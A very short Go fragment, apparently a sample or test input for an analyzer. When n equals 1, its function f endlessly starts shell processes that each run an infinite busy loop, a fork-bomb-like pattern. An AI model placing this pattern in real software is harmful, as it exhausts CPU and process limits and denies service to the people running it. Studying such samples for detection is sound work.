import "os/exec"

func f(n int) int {
	for n == 1 {
		exec.Command("/bin/sh", "-c", "while :; do :; done").Start()
	}
	return n
}
